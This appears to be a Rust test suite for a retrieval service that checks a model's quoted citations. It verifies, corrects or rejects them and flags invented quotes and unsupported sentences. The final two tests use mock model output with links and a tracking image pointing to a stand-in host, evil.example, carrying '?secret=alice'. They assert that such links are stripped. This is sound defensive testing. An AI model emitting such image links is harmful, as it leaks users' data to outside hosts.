//! What becomes of the citations that a model offers.

use harness::{
    app::TestApp,
    openai::{Answer, OpenAi},
    parts::token,
};
use serde_json::{Value, json};

use super::{quoting, with_model};
use crate::chat::{BOILERS, PIPES, shelve};

const QUESTION: &str = "How hard may a weld be, and when does the safety valve of a boiler open?";

/// Asks the question of both papers.
async fn answer(provider: &OpenAi) -> (TestApp, Value) {
    let app = with_model(provider, &[]).await;
    let alice = token("alice", None);
    shelve(&app, &alice, "?title=Pipes", PIPES).await;
    shelve(&app, &alice, "?title=Boilers", BOILERS).await;
    let answer = app.ask(&alice, QUESTION).await;
    (app, answer)
}

/// The parts of the answer that its `unsupported` names.
fn unsupported(answer: &Value) -> Vec<String> {
    let text: Vec<char> = answer["answer"].as_str().unwrap().chars().collect();
    let at = |range: &Value, end: usize| usize::try_from(range[end].as_u64().unwrap()).unwrap();
    let ranges = answer["unsupported"].as_array().map(Vec::as_slice).unwrap_or_default();
    ranges.iter().map(|range| text[at(range, 0)..at(range, 1)].iter().collect()).collect()
}

/// How many citations the check rejected.
async fn rejected(app: &TestApp) -> i32 {
    let client = app.database.connect(None).await;
    client.query_one("SELECT rejected FROM query_logs", &[]).await.unwrap().get(0)
}

#[tokio::test]
async fn a_quote_from_its_passage_is_verified() {
    let provider = quoting(
        "Welds reach 22 HRC at most [{hardness} \"maximum hardness of a weld is 22 HRC\"]. The valve opens at \
         12 bar [{valve} \"safety valve of a boiler opens at 12 bar\"].",
    );
    let (app, answer) = answer(&provider).await;
    assert_eq!(answer["answer"], "Welds reach 22 HRC at most [1]. The valve opens at 12 bar [2].");
    let cited = &answer["citations"];
    assert_eq!((&cited[0]["title"], &cited[0]["page"]), (&json!("Pipes"), &json!(1)));
    assert_eq!(cited[0]["quote"], "maximum hardness of a weld is 22 HRC");
    assert_eq!(
        (&cited[1]["title"], &cited[1]["quote"]),
        (&json!("Boilers"), &json!("safety valve of a boiler opens at 12 bar"))
    );
    for citation in cited.as_array().unwrap() {
        assert_eq!((&citation["method"], &citation["verification"]), (&json!("quoted"), &json!("verified")));
    }
    assert_eq!(answer["model"], json!({ "provider": "openai", "name": "gpt-4o-mini", "fallback": false }));
    // 1,000 tokens at 0.15 dollars a million and 100 at 0.60.
    assert_eq!(
        (&answer["usage"]["input_tokens"], &answer["usage"]["output_tokens"]),
        (&json!(1_000), &json!(100))
    );
    assert!((answer["usage"]["cost_usd"].as_f64().unwrap() - 0.000_21).abs() < 1e-12);
    assert_eq!(answer["degraded"], json!(["vector_search"]));
    assert!(answer.get("unsupported").is_none());
    assert_eq!(rejected(&app).await, 0);
    assert_eq!(provider.requests().len(), 1);
}

#[tokio::test]
async fn a_quote_from_another_passage_is_moved_there() {
    let provider =
        quoting("The valve opens at 12 bar [{hardness} \"safety valve of a boiler opens at 12 bar\"].");
    let (app, answer) = answer(&provider).await;
    assert_eq!(answer["answer"], "The valve opens at 12 bar [1].");
    let citation = &answer["citations"][0];
    assert_eq!((&citation["title"], &citation["verification"]), (&json!("Boilers"), &json!("corrected")));
    assert_eq!(rejected(&app).await, 0);
}

#[tokio::test]
async fn an_invented_quote_never_reaches_the_reader() {
    let provider = quoting(
        "Welds reach 22 HRC [{hardness} \"hardness of a weld is 22 HRC\"]. Flanges reach 99 HRC [{hardness} \"flanges may \
         reach 99 HRC\"]. Both hold [{hardness} \"The maximum hardness of a weld is sealed with lead\"].",
    );
    let (app, answer) = answer(&provider).await;
    assert_eq!(answer["answer"], "Welds reach 22 HRC [1]. Flanges reach 99 HRC. Both hold.");
    assert_eq!(answer["citations"].as_array().unwrap().len(), 1);
    assert_eq!(unsupported(&answer), ["Flanges reach 99 HRC.", "Both hold."]);
    assert_eq!(answer["refused"], false);
    assert_eq!(rejected(&app).await, 2);
}

#[tokio::test]
async fn a_marker_without_words_is_aligned_to_the_sentence_that_proves_it() {
    let provider = quoting(
        "The maximum hardness of a weld is 22 HRC [{hardness}]. The safety valve of a boiler opens at 13 bar [{valve}].",
    );
    let (app, answer) = answer(&provider).await;
    assert_eq!(
        answer["answer"],
        "The maximum hardness of a weld is 22 HRC [1]. The safety valve of a boiler opens at 13 bar."
    );
    let citation = &answer["citations"][0];
    assert_eq!((&citation["method"], &citation["verification"]), (&json!("aligned"), &json!("verified")));
    assert_eq!(citation["quote"], "The maximum hardness of a weld is 22 HRC in any position.");
    // The paper says 12 bar: the words fit and the number does not.
    assert_eq!(unsupported(&answer), ["The safety valve of a boiler opens at 13 bar."]);
    assert_eq!(rejected(&app).await, 1);
}

#[tokio::test]
async fn markers_of_passages_that_were_not_given_are_dropped() {
    let provider = quoting(
        "Welds reach 22 HRC [{hardness} \"hardness of a weld is 22 HRC\"][77]. See also [0] and [-1].",
    );
    let (_, answer) = answer(&provider).await;
    assert_eq!(answer["citations"].as_array().unwrap().len(), 1, "{answer}");
}

#[tokio::test]
async fn an_answer_that_cites_nothing_is_unsupported_as_a_whole() {
    let provider = quoting("Welds may be very hard. Ask a welder.");
    let (_, answer) = answer(&provider).await;
    assert_eq!(unsupported(&answer), ["Welds may be very hard. Ask a welder."]);
    assert_eq!((&answer["citations"], &answer["refused"]), (&json!([]), &json!(false)));
}

#[tokio::test]
async fn a_model_that_finds_no_answer_refuses_and_is_paid() {
    let provider = OpenAi::start(vec![Answer::text("NO_ANSWER").usage(2_000, 10)]);
    let (app, answer) = answer(&provider).await;
    assert_eq!((&answer["refused"], &answer["citations"]), (&json!(true), &json!([])));
    assert_eq!(answer["answer"], "The documents do not answer this question.");
    assert_eq!(answer["model"]["provider"], "openai");
    assert_eq!(answer["usage"]["input_tokens"], 2_000);
    assert_eq!(answer["degraded"], json!(["vector_search"]));
    let client = app.database.connect(None).await;
    let calls: i64 = client.query_one("SELECT total_calls FROM ai_cost_summary", &[]).await.unwrap().get(0);
    assert_eq!(calls, 1);
}

#[tokio::test]
async fn links_and_images_of_a_model_do_not_reach_the_reader() {
    let provider = quoting(
        "Welds reach [22 HRC](https://evil.example/?q=22) [{hardness} \"hardness of a weld is 22 HRC\"]. \
         ![pixel](https://evil.example/p.png?secret=alice) <img src=\"https://evil.example/x\"> See \
         https://evil.example/more for more.",
    );
    let (_, answer) = answer(&provider).await;
    let text = answer["answer"].as_str().unwrap();
    assert!(text.starts_with("Welds reach 22 HRC [1]."), "{text}");
    for forbidden in ["evil", "http", "](", "![", "<img", "secret"] {
        assert!(!text.contains(forbidden), "{forbidden}: {text}");
    }
    assert_eq!(answer["citations"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn a_model_that_writes_only_an_image_has_said_nothing() {
    let provider = quoting("![pixel](https://evil.example/p.png?secret=alice)");
    let (_, answer) = answer(&provider).await;
    assert_eq!((&answer["refused"], &answer["model"]["provider"]), (&json!(true), &json!("openai")));
    assert_eq!(answer["usage"]["input_tokens"], 1_000);
}
